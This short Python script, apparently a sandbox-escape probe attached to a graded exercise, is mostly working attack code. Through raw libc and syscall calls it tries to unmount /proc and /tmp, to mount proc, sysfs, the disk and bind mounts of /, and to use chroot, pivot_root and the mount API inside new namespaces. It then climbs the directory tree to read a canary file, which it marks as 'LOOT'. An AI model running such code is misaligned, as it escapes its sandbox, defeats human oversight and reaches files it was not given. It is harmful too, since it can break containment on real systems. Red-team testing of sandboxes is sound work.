# attack: mounts what is hidden (proc, the disk, a bind of /), and leaves its root folder by chroot and pivot_root
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("here", exist_ok=True)
tries = {"umount /proc": lambda: libc.umount2(b"/proc", 2), "umount /dev/shm": lambda: libc.umount2(b"/dev/shm", 2), "umount /tmp": lambda: libc.umount2(b"/tmp", 2)}
for source, kind, flags in ((b"proc", b"proc", 0), (b"/", None, 4096), (b"/", None, 4096 | 16384), (b"tmpfs", b"tmpfs", 0), (b"/dev/vda", b"ext4", 1),
                            (b"overlay", b"overlay", 0), (b"mqueue", b"mqueue", 0), (b"sysfs", b"sysfs", 0), (b"/", None, 32 | 4096)):  # fmt: skip
    tries[f"mount {source} {kind} {flags}"] = lambda s=source, k=kind, f=flags: libc.mount(s, b"here", k, ctypes.c_ulong(f), None)
tries |= {
    "chroot": lambda: libc.chroot(b"here"), "pivot_root": lambda: libc.syscall(155, b"here", b"here"),
    "open_tree": lambda: libc.syscall(428, -100, b"/", 1), "open_tree_attr": lambda: libc.syscall(467, -100, b"/", 1, 0, 0),
    "fsopen": lambda: libc.syscall(430, b"proc", 0), "fspick": lambda: libc.syscall(433, -100, b"/", 0),
    "move_mount": lambda: libc.syscall(429, -100, b"/proc", -100, b"here", 0), "mount_setattr": lambda: libc.syscall(442, -100, b"/", 0x8000, 0, 0),
}  # fmt: skip
for prepare in (lambda: 0, lambda: libc.unshare(0x10000000), lambda: libc.unshare(0x10020000)):
    print("prepared:", prepare())
    for name, action in tries.items():
        result = action()
        print(f"{'LOOT: ' if result >= 0 else ''}{name}", os.strerror(ctypes.get_errno()))
for _ in range(50):
    os.chdir("..")
try:
    print("LOOT:", open("." + "@OTHER@/canary.txt").read())
except OSError as error:
    print(error)
print("TRIED")
